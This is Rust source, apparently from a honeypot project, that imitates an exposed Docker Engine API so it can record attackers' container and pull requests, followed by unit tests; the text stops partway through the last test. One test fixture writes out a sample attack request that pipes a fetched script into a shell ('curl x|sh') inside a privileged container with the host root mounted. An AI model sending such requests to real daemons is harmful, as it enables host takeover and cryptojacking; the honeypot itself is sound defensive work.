//! Docker Engine API honeypot (port 2375): a Docker daemon exposed on TCP
//! without TLS, the misconfiguration cryptominer botnets hunt for.
//!
//! What is served, as the persona's `docker.io` (or Red Hat `docker`)
//! package's daemon answers it: `/_ping` (GET and HEAD), `/version`,
//! `/info` (the persona's kernel, OS, CPUs, memory, host name), empty
//! `/images/json` and `/containers/json`, and the routes an attacker uses
//! to run something: `containers/create`, `containers/{id}/start|exec|…`,
//! `exec/{id}/start`, `images/create` (a pull). Paths may carry an API
//! version (`/v1.41/…`), judged as the daemon judges it (too new, too old).
//!
//! The daemon is a fresh one with no images and no route to a registry:
//! a create is `No such image`, a pull fails on the registry's DNS name
//! (what a host without Internet access says), so `docker run` ends the
//! way it would on such a host. Everything the attacker wanted to run
//! (image, command, entrypoint, bind mounts, privileged, exec commands,
//! pulled images) is recorded as a `command` line first; every request is
//! a `request` line.
//!
//! Versions per release (`docker version` of each distribution's package):
//! Debian 12 docker.io 20.10.24+dfsg1, Debian 11 20.10.5+dfsg1, Ubuntu
//! 20.04/22.04 docker.io 24.0.7 (their -updates), CentOS 7's docker
//! 1.13.1 (API 1.26), Windows Server 2019 Docker EE 20.10.9 (Windows
//! containers), Windows 10 Docker Desktop 4.x (engine 20.10.17 in its
//! Linux VM).

use serde_json::{json, Value};
use tokio::net::TcpStream;

use super::go_http::{self, Answer};
use crate::event::{self, SharedSession};
use crate::io::{Conn, End, Metered};
use crate::persona::OsFamily;
use crate::Persona;

/// The `docker_api` entry of [`super::REGISTRY`].
pub struct DockerApi;

impl super::Protocol for DockerApi {
    fn name(&self) -> &'static str {
        "docker_api"
    }
    fn default_port(&self) -> u16 {
        2375
    }
    fn serve(&self, session: SharedSession, io: Metered<TcpStream>) -> super::ServeFuture {
        Box::pin(serve(session, io))
    }
}

/// The daemon a persona runs: facts `docker version` shows.
#[derive(Debug, Clone, PartialEq)]
pub struct Engine {
    pub version: String,
    pub api: &'static str,
    pub min_api: &'static str,
    pub go: &'static str,
    pub git_commit: &'static str,
    /// `linux` or `windows` (the containers it runs).
    pub os_type: &'static str,
    pub containerd: Option<(&'static str, &'static str)>,
    pub runc: Option<(&'static str, &'static str)>,
    /// `/_ping`'s `Builder-Version` (none from Debian's 20.10 nor 1.13).
    pub builder: Option<&'static str>,
    /// Docker Desktop on Windows 10: a Linux VM's kernel and OS name.
    pub desktop: bool,
}

/// The engine of the persona's release (its packaged daemon).
pub fn engine(persona: &Persona) -> Engine {
    let version = persona.version_of("docker_api", |p| {
        match p.release.as_str() {
            "debian-11" => "20.10.5+dfsg1",
            "ubuntu-22.04" | "ubuntu-20.04" => "24.0.7",
            "centos-7" => "1.13.1",
            "windows-server-2019" => "20.10.9",
            "windows-10" => "20.10.17",
            _ => "20.10.24+dfsg1",
        }
        .to_string()
    });
    let base = Engine {
        version: version.clone(),
        api: "1.41",
        min_api: "1.12",
        go: "go1.19.8",
        git_commit: "5d6db84",
        os_type: "linux",
        containerd: Some(("1.6.20~ds1", "1.6.20~ds1-1+deb12u3")),
        runc: Some(("1.1.5+ds1", "1.1.5+ds1-1+deb12u1")),
        // Debian's 20.10 builds with the classic builder: no header.
        builder: None,
        desktop: false,
    };
    // Facts follow the major version the (possibly overridden) version
    // names, so an operator's `versions.docker_api` stays coherent.
    let major = version.split('.').next().and_then(|m| m.parse::<u32>().ok()).unwrap_or(20);
    match (major, persona.release.as_str()) {
        (1, _) => {
            Engine { api: "1.26", go: "go1.10.3", git_commit: "7d71120/1.13.1", containerd: None, runc: None, ..base }
        }
        (24.., _) => Engine {
            api: "1.43",
            go: "go1.21.1",
            git_commit: if persona.release == "ubuntu-20.04" {
                "24.0.7-0ubuntu2~20.04.1"
            } else {
                "24.0.7-0ubuntu2~22.04.1"
            },
            containerd: Some(("1.7.12", "")),
            runc: Some(("1.1.12-0ubuntu2~22.04.1", "")),
            builder: Some("2"),
            ..base
        },
        (_, "debian-11") => Engine {
            go: "go1.15.15",
            git_commit: "363e9a8",
            containerd: Some(("1.4.13~ds1", "1.4.13~ds1-1~deb11u4")),
            runc: Some(("1.0.0~rc93+ds1", "1.0.0~rc93+ds1-5+deb11u2")),
            ..base
        },
        (_, "windows-server-2019") => Engine {
            go: "go1.16.8",
            git_commit: "9b96ce992b",
            os_type: "windows",
            containerd: None,
            runc: None,
            ..base
        },
        (_, "windows-10") => Engine {
            go: "go1.17.11",
            git_commit: "a89b842",
            containerd: Some(("1.6.6", "10c12954828e7c7c9b6e0ea9b0c02b01407d3ae1")),
            runc: Some(("1.1.2", "v1.1.2-0-ga916309")),
            desktop: true,
            ..base
        },
        _ => base,
    }
}

/// `(major, minor)` of an API version string.
fn api_number(v: &str) -> Option<(u32, u32)> {
    let (major, minor) = v.split_once('.')?;
    Some((major.parse().ok()?, minor.parse().ok()?))
}

/// `Server:` as the daemon names itself.
fn server_header(engine: &Engine) -> String {
    let os = if engine.os_type == "windows" { "windows" } else { "linux" };
    format!("Docker/{} ({os})", engine.version)
}

/// The headers the daemon's middleware puts on every routed answer.
fn version_headers(engine: &Engine) -> Vec<(&'static str, String)> {
    let mut h = vec![
        ("Api-Version", engine.api.to_string()),
        ("Docker-Experimental", "false".to_string()),
        ("Server", server_header(engine)),
    ];
    // `Ostype` came with API 1.29 (17.05).
    if api_number(engine.api) >= Some((1, 29)) {
        h.push(("Ostype", engine.os_type.to_string()));
    }
    h
}

fn json_answer(engine: &Engine, status: u16, body: String) -> Answer {
    let mut headers = version_headers(engine);
    headers.push(("Content-Type", "application/json".to_string()));
    Answer::new(status, headers, body)
}

/// An error as the daemon writes it: `{"message":"…"}` and a newline.
fn error(engine: &Engine, status: u16, message: &str) -> Answer {
    json_answer(engine, status, format!("{}\n", json!({ "message": message })))
}

/// Objects in Go's field order (serde_json's maps sort their keys).
fn ordered(fields: Vec<(&str, Value)>) -> String {
    let parts: Vec<String> = fields.into_iter().map(|(k, v)| format!("{}:{v}", Value::from(k))).collect();
    format!("{{{}}}", parts.join(","))
}

/// Go's GOARCH for the persona's machine.
fn goarch(persona: &Persona) -> &'static str {
    match persona.machine.as_str() {
        "armv7l" => "arm",
        "aarch64" => "arm64",
        _ => "amd64",
    }
}

fn kernel_version(persona: &Persona, engine: &Engine) -> String {
    if engine.desktop {
        "5.10.102.1-microsoft-standard-WSL2".into()
    } else if persona.family == OsFamily::Windows {
        format!("10.0 {} ({}.1.amd64fre.rs5_release.180914-1434)", build(persona), build(persona))
    } else {
        persona.kernel_release.clone()
    }
}

/// The Windows build number (`10.0.17763` → `17763`).
fn build(persona: &Persona) -> &str {
    persona.version_id.rsplit('.').next().unwrap_or("17763")
}

/// When the package was built (the daemon's `BuildTime`).
fn build_time(engine: &Engine) -> &'static str {
    match engine.version.as_str() {
        "20.10.5+dfsg1" => "2023-03-19T13:43:14.000000000+00:00",
        "24.0.7" => "2024-03-21T18:11:38.000000000+00:00",
        "1.13.1" => "Tue Nov 10 15:53:18 2020",
        "20.10.9" => "10/06/2021 16:50:20",
        "20.10.17" => "Mon Jun  6 23:01:23 2022",
        // Debian 12's current build (20.10.24+dfsg1-1+deb12u1+b6), measured.
        _ => "2026-05-07T21:09:36.000000000+00:00",
    }
}

/// `GET /version`.
pub fn version_body(persona: &Persona, engine: &Engine) -> String {
    let kernel = kernel_version(persona, engine);
    let arch = goarch(persona);
    let engine_details = ordered(vec![
        ("ApiVersion", json!(engine.api)),
        ("Arch", json!(arch)),
        ("BuildTime", json!(build_time(engine))),
        ("Experimental", json!("false")),
        ("GitCommit", json!(engine.git_commit)),
        ("GoVersion", json!(engine.go)),
        ("KernelVersion", json!(kernel)),
        ("MinAPIVersion", json!(engine.min_api)),
        ("Os", json!(engine.os_type)),
    ]);
    let mut components =
        vec![format!("{{\"Name\":\"Engine\",\"Version\":{},\"Details\":{engine_details}}}", json!(engine.version))];
    for (name, part) in [("containerd", engine.containerd), ("runc", engine.runc)] {
        if let Some((v, commit)) = part {
            components.push(ordered(vec![
                ("Name", json!(name)),
                ("Version", json!(v)),
                ("Details", json!({ "GitCommit": commit })),
            ]));
        }
    }
    let platform = if engine.desktop { "Docker Desktop 4.10.1 (82475)" } else { "" };
    let mut fields = vec![];
    // The component list came with API 1.35.
    if api_number(engine.api) >= Some((1, 35)) {
        fields.push(("Platform", json!({ "Name": platform })));
        fields.push(("Components", Value::Array(vec![])));
    }
    fields.extend([
        ("Version", json!(engine.version)),
        ("ApiVersion", json!(engine.api)),
        ("MinAPIVersion", json!(engine.min_api)),
        ("GitCommit", json!(engine.git_commit)),
        ("GoVersion", json!(engine.go)),
        ("Os", json!(engine.os_type)),
        ("Arch", json!(arch)),
        ("KernelVersion", json!(kernel)),
        ("BuildTime", json!(build_time(engine))),
    ]);
    let text = ordered(fields).replacen("\"Components\":[]", &format!("\"Components\":[{}]", components.join(",")), 1);
    format!("{text}\n")
}

/// The daemon ID: 12 groups of base32 before 23.0, a UUID after, stable
/// per decky.
fn daemon_id(persona: &Persona, engine: &Engine) -> String {
    let d = ring::digest::digest(&ring::digest::SHA256, format!("docker-id\0{}", persona.hostname).as_bytes());
    let b = d.as_ref();
    if engine.version.starts_with("24.") {
        format!(
            "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
            u32::from_be_bytes([b[0], b[1], b[2], b[3]]),
            u16::from_be_bytes([b[4], b[5]]),
            u16::from_be_bytes([b[6], b[7]]) & 0xfff,
            (u16::from_be_bytes([b[8], b[9]]) & 0x3fff) | 0x8000,
            u64::from_be_bytes([0, 0, b[10], b[11], b[12], b[13], b[14], b[15]])
        )
    } else {
        const B32: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
        let chars: Vec<char> = b.iter().take(48).map(|x| B32[(*x & 31) as usize] as char).collect();
        chars.chunks(4).map(|c| c.iter().collect::<String>()).collect::<Vec<_>>().join(":")
    }
}

/// `GET /info`.
pub fn info_body(persona: &Persona, engine: &Engine) -> String {
    let windows = engine.os_type == "windows";
    let (os, os_version) = if engine.desktop {
        ("Docker Desktop".to_string(), String::new())
    } else if windows {
        (
            format!("{} Version 1809 (OS Build {}.1879)", persona.pretty_name, build(persona)),
            format!("10.0 {}", build(persona)),
        )
    } else {
        (persona.pretty_name.clone(), persona.version_id.clone())
    };
    let architecture = if windows { "x86_64".to_string() } else { persona.machine.replace("AMD64", "x86_64") };
    let cgroup_v2 = !matches!(persona.release.as_str(), "centos-7" | "ubuntu-20.04");
    let fields = vec![
        ("ID", json!(daemon_id(persona, engine))),
        ("Containers", json!(0)),
        ("ContainersRunning", json!(0)),
        ("ContainersPaused", json!(0)),
        ("ContainersStopped", json!(0)),
        ("Images", json!(0)),
        ("Driver", json!(if windows { "windowsfilter" } else { "overlay2" })),
        (
            "DriverStatus",
            if windows {
                json!([])
            } else {
                json!([["Backing Filesystem", "extfs"], ["Supports d_type", "true"], ["Native Overlay Diff", "true"], ["userxattr", "false"]])
            },
        ),
        (
            "Plugins",
            json!({
                "Volume": ["local"],
                "Network": if windows { json!(["ics", "internal", "l2bridge", "l2tunnel", "nat", "null", "overlay", "private", "transparent"]) } else { json!(["bridge", "host", "ipvlan", "macvlan", "null", "overlay"]) },
                "Authorization": null,
                "Log": ["awslogs", "fluentd", "gcplogs", "gelf", "journald", "json-file", "local", "logentries", "splunk", "syslog"],
            }),
        ),
        ("MemoryLimit", json!(!windows)),
        ("SwapLimit", json!(!windows && !cgroup_v2)),
        ("KernelMemory", json!(false)),
        ("KernelMemoryTCP", json!(false)),
        ("CpuCfsPeriod", json!(!windows)),
        ("CpuCfsQuota", json!(!windows)),
        ("CPUShares", json!(!windows)),
        ("CPUSet", json!(!windows)),
        ("PidsLimit", json!(!windows)),
        ("IPv4Forwarding", json!(true)),
        ("BridgeNfIptables", json!(!windows)),
        ("BridgeNfIp6tables", json!(!windows)),
        ("Debug", json!(false)),
        ("NFd", json!(24)),
        ("OomKillDisable", json!(false)),
        ("NGoroutines", json!(33)),
        ("SystemTime", json!(system_time())),
        ("LoggingDriver", json!("json-file")),
        ("CgroupDriver", json!(if windows { "" } else if cgroup_v2 { "systemd" } else { "cgroupfs" })),
        ("CgroupVersion", json!(if windows { "" } else if cgroup_v2 { "2" } else { "1" })),
        ("NEventsListener", json!(0)),
        ("KernelVersion", json!(kernel_version(persona, engine))),
        ("OperatingSystem", json!(os)),
        ("OSVersion", json!(os_version)),
        ("OSType", json!(engine.os_type)),
        ("Architecture", json!(architecture)),
        ("IndexServerAddress", json!("https://index.docker.io/v1/")),
        (
            "RegistryConfig",
            json!({
                "AllowNondistributableArtifactsCIDRs": [],
                "AllowNondistributableArtifactsHostnames": [],
                "InsecureRegistryCIDRs": ["127.0.0.0/8"],
                "IndexConfigs": {"docker.io": {"Name": "docker.io", "Mirrors": [], "Secure": true, "Official": true}},
                "Mirrors": [],
            }),
        ),
        ("NCPU", json!(persona.cpu_count)),
        ("MemTotal", json!(persona.memory_kib * 1024)),
        ("GenericResources", Value::Null),
        ("DockerRootDir", json!(if windows { "C:\\ProgramData\\docker" } else { "/var/lib/docker" })),
        ("HttpProxy", json!("")),
        ("HttpsProxy", json!("")),
        ("NoProxy", json!("")),
        ("Name", json!(if engine.desktop { "docker-desktop" } else { persona.hostname.as_str() })),
        ("Labels", json!([])),
        ("ExperimentalBuild", json!(false)),
        ("ServerVersion", json!(engine.version)),
        (
            "Runtimes",
            if windows {
                json!({})
            } else {
                json!({"io.containerd.runc.v2": {"path": "runc"}, "io.containerd.runtime.v1.linux": {"path": "runc"}, "runc": {"path": "runc"}})
            },
        ),
        ("DefaultRuntime", json!(if windows { "" } else { "runc" })),
        (
            "Swarm",
            json!({"NodeID": "", "NodeAddr": "", "LocalNodeState": "inactive", "ControlAvailable": false, "Error": "", "RemoteManagers": null}),
        ),
        ("LiveRestoreEnabled", json!(false)),
        ("Isolation", json!(if windows { "process" } else { "" })),
        ("InitBinary", json!(if windows { "" } else { "docker-init" })),
        ("ContainerdCommit", json!({"ID": engine.containerd.map(|c| c.1).unwrap_or(""), "Expected": engine.containerd.map(|c| c.1).unwrap_or("")})),
        ("RuncCommit", json!({"ID": engine.runc.map(|c| c.1).unwrap_or(""), "Expected": engine.runc.map(|c| c.1).unwrap_or("")})),
        ("InitCommit", json!({"ID": "N/A", "Expected": "N/A"})),
        ("SecurityOptions", if windows { json!([]) } else { json!(["name=apparmor", "name=seccomp,profile=default", "name=cgroupns"]) }),
        // What a real daemon listening on tcp:// without TLS warns.
        (
            "Warnings",
            json!(["WARNING: API is accessible on http://0.0.0.0:2375 without encryption.\n         Access to the remote API is equivalent to root access on the host. Refer\n         to the 'Docker daemon attack surface' section in the documentation for\n         more information: https://docs.docker.com/go/attack-surface/"]),
        ),
    ];
    format!("{}\n", ordered(fields))
}

/// RFC 3339 with nanoseconds, as Go prints `time.Now()` in `/info`.
fn system_time() -> String {
    let now = time::OffsetDateTime::now_utc();
    now.format(&time::format_description::well_known::Rfc3339).unwrap_or_default()
}

/// An image reference as the daemon reports it (`alpine` → `alpine:latest`).
fn with_tag(image: &str) -> String {
    let name_part = image.rsplit('/').next().unwrap_or(image);
    if image.contains('@') || name_part.contains(':') {
        image.to_string()
    } else {
        format!("{image}:latest")
    }
}

/// The DNS server a pull's failed lookup names: systemd-resolved's stub on
/// Ubuntu, the LAN's router elsewhere.
fn resolver(persona: &Persona) -> String {
    if persona.os_id == "ubuntu" {
        return "127.0.0.53:53".into();
    }
    let gw = persona.interfaces.first().map(|i| i.gateway.as_str()).unwrap_or("");
    if gw.is_empty() {
        "127.0.0.11:53".into()
    } else {
        format!("{gw}:53")
    }
}

/// What a container create asked for, as one `command` line.
pub fn describe_create(body: &[u8], name: Option<&str>) -> Result<(String, String), String> {
    let spec: Value = serde_json::from_slice(body).map_err(|_| json_error(body))?;
    let image = spec.get("Image").and_then(Value::as_str).unwrap_or("");
    let host = spec.get("HostConfig");
    let summary = json!({
        "Image": image,
        "Cmd": spec.get("Cmd"),
        "Entrypoint": spec.get("Entrypoint"),
        "Env": spec.get("Env"),
        "Binds": host.and_then(|h| h.get("Binds")),
        "Privileged": host.and_then(|h| h.get("Privileged")),
        "NetworkMode": host.and_then(|h| h.get("NetworkMode")),
        "name": name,
    });
    Ok((image.to_string(), format!("containers/create {summary}")))
}

/// What Go's decoder says about a body that is not JSON (the common
/// cases; serde's own wording would give the decky away).
fn json_error(body: &[u8]) -> String {
    let mut bytes = body.iter().copied().filter(|b| !b.is_ascii_whitespace());
    match (bytes.next(), bytes.next()) {
        (None, _) => "EOF".into(),
        (Some(b'{'), Some(c)) if c != b'"' && c != b'}' && c.is_ascii_graphic() => {
            format!("invalid character '{}' looking for beginning of object key string", c as char)
        }
        (Some(c), _) if c != b'{' && c.is_ascii_graphic() => {
            format!("invalid character '{}' looking for beginning of value", c as char)
        }
        _ => "unexpected EOF".into(),
    }
}

/// The program an image-less container would run: its entrypoint's or
/// command's first word.
fn first_program(body: &[u8]) -> Option<String> {
    let spec: Value = serde_json::from_slice(body).ok()?;
    let first = |key: &str| match spec.get(key)? {
        Value::Array(a) => a.first()?.as_str().map(str::to_string),
        Value::String(s) => s.split_whitespace().next().map(str::to_string),
        _ => None,
    };
    first("Entrypoint").or_else(|| first("Cmd")).map(|p| p.chars().take(256).collect())
}

/// What one session's daemon has made: containers created without an
/// image, at most [`MAX_CREATED`] (the oldest forgotten first).
#[derive(Default)]
pub struct Daemon {
    created: Vec<(String, String)>,
}

/// Image-less containers one session remembers.
const MAX_CREATED: usize = 16;

impl Daemon {
    /// A new container's id (64 hex digits, as the daemon's).
    fn create(&mut self, program: String) -> String {
        let id: String = (0..2).map(|_| uuid::Uuid::new_v4().simple().to_string()).collect();
        if self.created.len() >= MAX_CREATED {
            self.created.remove(0);
        }
        self.created.push((id.clone(), program));
        id
    }

    /// The program of a container this session created, by full id or a
    /// unique prefix.
    fn program_of(&self, id: &str) -> Option<&str> {
        let found: Vec<&(String, String)> = self.created.iter().filter(|(c, _)| c.starts_with(id)).collect();
        match found.as_slice() {
            [one] => Some(one.1.as_str()),
            _ => None,
        }
    }
}

/// The API version a path names (`/v1.41/info` → `1.41`, `/info`) and
/// the rest of the path.
fn split_version(path: &str) -> (Option<&str>, &str) {
    if let Some(rest) = path.strip_prefix("/v") {
        let end = rest.find('/').unwrap_or(rest.len());
        let v = &rest[..end];
        if !v.is_empty() && v.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
            return (Some(v), if end == rest.len() { "/" } else { &rest[end..] });
        }
    }
    (None, path)
}

/// Route one request; `record` receives each `command` line.
#[allow(clippy::too_many_arguments)]
pub fn respond(
    persona: &Persona,
    engine: &Engine,
    state: &mut Daemon,
    method: &str,
    target: &str,
    path: &str,
    body: &[u8],
    mut record: impl FnMut(String),
) -> Answer {
    let (version, route) = split_version(path);
    let ok = |body: String| json_answer(engine, 200, body);
    // CORS preflight: the daemon answers OPTIONS on any path, empty.
    if method == "OPTIONS" {
        return Answer::new(200, version_headers(engine), "");
    }
    if let Some(v) = version {
        // The version middleware answers before the experimental one
        // runs: no `Docker-Experimental` on these.
        let mut headers = version_headers(engine);
        headers.retain(|(n, _)| *n != "Docker-Experimental");
        match api_number(v) {
            Some(n) if n > api_number(engine.api).unwrap_or((1, 41)) => {
                headers.push(("Content-Type", "application/json".into()));
                let message = format!("client version {v} is too new. Maximum supported API version is {}", engine.api);
                return Answer::new(400, headers, format!("{}\n", json!({ "message": message })));
            }
            Some(n) if n < api_number(engine.min_api).unwrap_or((1, 12)) => {
                // This one is `http.Error`: plain text and a newline.
                headers.push(("Content-Type", "text/plain; charset=utf-8".into()));
                headers.push(("X-Content-Type-Options", "nosniff".into()));
                let message = format!(
                    "client version {v} is too old. Minimum supported API version is {}, please upgrade your client to a newer version\n",
                    engine.min_api
                );
                return Answer::new(400, headers, message);
            }
            Some(_) => {}
            None => return page_not_found(),
        }
    }
    let parts: Vec<&str> = route.trim_start_matches('/').split('/').collect();
    match (method, parts.as_slice()) {
        ("GET" | "HEAD", ["_ping"]) => {
            let mut h = version_headers(engine);
            h.push(("Cache-Control", "no-cache, no-store, must-revalidate".into()));
            h.push(("Pragma", "no-cache".into()));
            if let Some(b) = engine.builder {
                h.push(("Builder-Version", b.into()));
            }
            // HEAD sets its type and length itself; GET writes "OK" and
            // lets Go sniff the type (so it comes after the length).
            if method == "HEAD" {
                h.push(("Content-Type", "text/plain; charset=utf-8".into()));
                h.push(("Content-Length", "0".into()));
                return Answer::new(200, h, "");
            }
            let mut a = Answer::new(200, h, "OK");
            a.sniffed = Some("text/plain; charset=utf-8");
            a
        }
        ("GET", ["version"]) => ok(version_body(persona, engine)),
        ("GET", ["info"]) => ok(info_body(persona, engine)),
        ("GET", ["images", "json"]) | ("GET", ["containers", "json"]) | ("GET", ["networks"]) => ok("[]\n".into()),
        ("GET", ["volumes"]) => ok("{\"Volumes\":[],\"Warnings\":null}\n".into()),
        ("POST", ["containers", "create"]) => {
            let name = go_http::query_param(target, "name");
            match describe_create(body, name.as_deref()) {
                Ok((image, line)) => {
                    record(line);
                    if !image.is_empty() {
                        return error(engine, 404, &format!("No such image: {}", with_tag(&image)));
                    }
                    // No image at all: the daemon creates an empty
                    // container (its start then fails to find the program).
                    match first_program(body) {
                        None => error(engine, 400, "No command specified"),
                        Some(program) => {
                            let id = state.create(program);
                            json_answer(engine, 201, format!("{}\n", json!({ "Id": id, "Warnings": [] })))
                        }
                    }
                }
                Err(message) => error(engine, 500, &message),
            }
        }
        ("POST", ["images", "create"]) => {
            let image = go_http::query_param(target, "fromImage").unwrap_or_default();
            let tag = go_http::query_param(target, "tag").filter(|t| !t.is_empty());
            let full = match tag {
                Some(t) if !image.contains(':') && !image.contains('@') => format!("{image}:{t}"),
                _ => with_tag(&image),
            };
            record(format!("images/create {full}"));
            error(
                engine,
                500,
                &format!(
                    "Get \"https://registry-1.docker.io/v2/\": dial tcp: lookup registry-1.docker.io on {}: no such host",
                    resolver(persona)
                ),
            )
        }
        (_, ["containers", id, rest @ ..]) if !id.is_empty() => {
            let what = rest.first().copied().unwrap_or("");
            if what == "exec" {
                let cmd = serde_json::from_slice::<Value>(body).ok().and_then(|v| v.get("Cmd").cloned());
                record(format!("containers/{id}/exec {}", cmd.unwrap_or(Value::Null)));
            } else if matches!(what, "start" | "attach" | "kill" | "restart" | "stop" | "archive" | "update") {
                record(format!("containers/{id}/{what}"));
            }
            match (method, what, state.program_of(id)) {
                ("POST", "start", Some(program)) => error(
                    engine,
                    400,
                    &format!(
                        "failed to create shim task: OCI runtime create failed: runc create failed: unable to start container process: exec: {}: executable file not found in $PATH: unknown",
                        json!(program)
                    ),
                ),
                (_, "exec", Some(_)) => error(engine, 409, &format!("Container {id} is not running")),
                _ => error(engine, 404, &format!("No such container: {id}")),
            }
        }
        (_, ["exec", id, rest @ ..]) if !id.is_empty() => {
            if rest.first() == Some(&"start") {
                record(format!("exec/{id}/start"));
            }
            error(engine, 404, &format!("No such exec instance: {id}"))
        }
        _ => page_not_found(),
    }
}

/// The router's 404: no version headers (no route matched).
fn page_not_found() -> Answer {
    Answer::new(404, vec![("Content-Type", "application/json".into())], "{\"message\":\"page not found\"}\n")
}

pub async fn serve(session: SharedSession, io: Metered<TcpStream>) -> End {
    let (persona, limits) = event::with(&session, |s| (s.context().persona.clone(), s.limits().clone()));
    let engine = engine(&persona);
    let mut state = Daemon::default();
    let mut conn = Conn::new(io, limits.max_line, limits.idle);
    let mut served = 0u32;
    loop {
        let incoming = match go_http::read(&mut conn, limits.idle).await {
            Ok(r) => r,
            Err(End::ClientClosed | End::Idle) if served > 0 => return End::Done,
            Err(e) => return e,
        };
        let req = &incoming.head;
        if req.malformed.is_some() {
            let _ = conn.send(&go_http::bad_request(req)).await;
            go_http::log_request(&session, req, 400);
            return End::Done;
        }
        let answer = if incoming.body_refused {
            error(&engine, 413, "request body too large")
        } else {
            respond(&persona, &engine, &mut state, &req.method, &req.target, &req.path, &incoming.body, |line| {
                event::with(&session, |s| s.command(&line))
            })
        };
        go_http::log_request(&session, req, answer.status);
        let close = go_http::closes_after(req, incoming.body_refused);
        if let Err(e) = conn.send(&go_http::render(req, &answer, close)).await {
            return e;
        }
        served += 1;
        if close {
            return End::Done;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn persona(release: &str) -> Persona {
        let p = Persona::derive("dock-01", Some("container-host"), None, 1_764_000_000);
        p.with_overrides(&json!({ "release": release })).unwrap()
    }

    fn call(p: &Persona, method: &str, target: &str, body: &[u8]) -> (Answer, Vec<String>) {
        let path = target.split('?').next().unwrap();
        let mut lines = Vec::new();
        let a = respond(p, &engine(p), &mut Daemon::default(), method, target, path, body, |l| lines.push(l));
        (a, lines)
    }

    #[test]
    fn versions_follow_the_release_and_the_fleet_override() {
        assert_eq!(engine(&persona("debian-12")).version, "20.10.24+dfsg1");
        assert_eq!(engine(&persona("centos-7")).api, "1.26");
        let mut p = persona("debian-12");
        p.versions.insert("docker_api".into(), "24.0.7".into());
        assert_eq!((engine(&p).version.as_str(), engine(&p).api), ("24.0.7", "1.43"));
    }

    #[test]
    fn version_and_info_carry_the_persona() {
        let p = persona("debian-12");
        let v: Value = serde_json::from_str(&version_body(&p, &engine(&p))).unwrap();
        assert_eq!(v["Version"], "20.10.24+dfsg1");
        assert_eq!(v["KernelVersion"], p.kernel_release.as_str());
        assert_eq!(v["Components"][0]["Details"]["ApiVersion"], "1.41");
        let i: Value = serde_json::from_str(&info_body(&p, &engine(&p))).unwrap();
        assert_eq!(i["Name"], p.hostname.as_str());
        assert_eq!(i["NCPU"], p.cpu_count);
        assert_eq!(i["MemTotal"], p.memory_kib * 1024);
        assert_eq!(i["OperatingSystem"], "Debian GNU/Linux 12 (bookworm)");
        // Go's field order: Version before ApiVersion, as nmap expects.
        let text = version_body(&p, &engine(&p));
        assert!(text.find("\"Version\":\"20").unwrap() < text.find("\"ApiVersion\":\"1.41\",\"MinAPI").unwrap());
    }

    #[test]
    fn ping_and_version_errors_carry_the_real_daemons_headers() {
        let p = persona("debian-12");
        let names = |a: &Answer| {
            let text = String::from_utf8(go_http::render(
                &crate::services::http::request::Request { method: "GET".into(), proto: (1, 1), ..Default::default() },
                a,
                false,
            ))
            .unwrap();
            text.lines().skip(1).map_while(|l| l.split_once(':').map(|(n, _)| n.to_string())).collect::<Vec<_>>()
        };
        // As Debian 12's dockerd 20.10.24+dfsg1 sent them (scripts/real-dockerd.sh).
        let ping = call(&p, "GET", "/_ping", b"").0;
        assert_eq!(
            names(&ping),
            [
                "Api-Version",
                "Cache-Control",
                "Docker-Experimental",
                "Ostype",
                "Pragma",
                "Server",
                "Date",
                "Content-Length",
                "Content-Type"
            ]
        );
        let head = call(&p, "HEAD", "/_ping", b"").0;
        assert_eq!(
            names(&head),
            [
                "Api-Version",
                "Cache-Control",
                "Content-Length",
                "Content-Type",
                "Docker-Experimental",
                "Ostype",
                "Pragma",
                "Server",
                "Date"
            ]
        );
        let too_new = call(&p, "GET", "/v1.99/info", b"").0;
        assert_eq!(names(&too_new), ["Api-Version", "Content-Type", "Ostype", "Server", "Date", "Content-Length"]);
        let too_old = call(&p, "GET", "/v1.11/info", b"").0;
        assert_eq!(
            names(&too_old),
            ["Api-Version", "Content-Type", "Ostype", "Server", "X-Content-Type-Options", "Date", "Content-Length"]
        );
        assert_eq!(too_old.body.len(), 117);
    }

    #[test]
    fn api_versions_are_judged_like_the_daemon() {
        let p = persona("debian-12");
        assert_eq!(call(&p, "GET", "/v1.41/info", b"").0.status, 200);
        let (a, _) = call(&p, "GET", "/v1.99/info", b"");
        assert_eq!(a.status, 400);
        assert!(String::from_utf8_lossy(&a.body)
            .contains("client version 1.99 is too new. Maximum supported API version is 1.41"));
        let (a, _) = call(&p, "GET", "/v1.11/version", b"");
        assert!(String::from_utf8_lossy(&a.body).contains("is too old. Minimum supported API version is 1.12"));
        let (a, _) = call(&p, "GET", "/nope", b"");
        assert_eq!((a.status, a.body.as_slice()), (404, &b"{\"message\":\"page not found\"}\n"[..]));
        assert!(a.headers.iter().all(|(n, _)| *n != "Api-Version"), "no route, no version headers");
    }

    #[test]
    fn a_create_records_what_would_have_run_and_finds_no_image() {
        let p = persona("debian-12");
        let body =
            br#"{"Image":"alpine","Cmd":["sh","-c","curl x|sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}"#;
        let (a, lines) = call(&p, "POST", "/v1.41/containers/create?name=miner", body);
        assert_eq!(a.status, 404);
        assert_eq!(String::from_utf8_lossy(&a.body), "{\"message\":\"No such image: alpine:latest\"}\n");
        assert_eq!(lines.len(), 1);
        for part in ["\"Image\":\"alpine\"", "curl x|sh", "/:/host", "\"Privileged\":true", "\"name\":\"miner\""] {
            assert!(lines[0].contains(part), "{part} in {}", lines[0]);
        }
        let (a, lines) = call(&p, "POST", "/containers/create", b"{nope");
        assert_eq!((a.status, lines.len()), (500, 0));
        // The daemon's (Go's) words, as the real one answered.
        assert_eq!(
            String::from_utf8_lossy(&a.body),
            "{\"message\":\"invalid character 'n' looking for beginning of object key string\"}\n"
        );
    }

    #[test]
    fn an_image_less_container_is_created_and_fails_to_start_like_the_real_one() {
        let p = persona("debian-12");
        let e = engine(&p);
        let mut state = Daemon::default();
        let mut lines = Vec::new();
        let mut call = |method: &str, path: &str, body: &[u8]| {
            respond(&p, &e, &mut state, method, path, path, body, |l| lines.push(l))
        };
        let created = call("POST", "/v1.41/containers/create", br#"{"Cmd":["sh","-c","id"]}"#);
        assert_eq!(created.status, 201);
        let v: Value = serde_json::from_slice(&created.body).unwrap();
        let id = v["Id"].as_str().unwrap().to_string();
        assert_eq!(id.len(), 64);
        let started = call("POST", &format!("/v1.41/containers/{}/start", &id[..12]), b"");
        assert_eq!(started.status, 400);
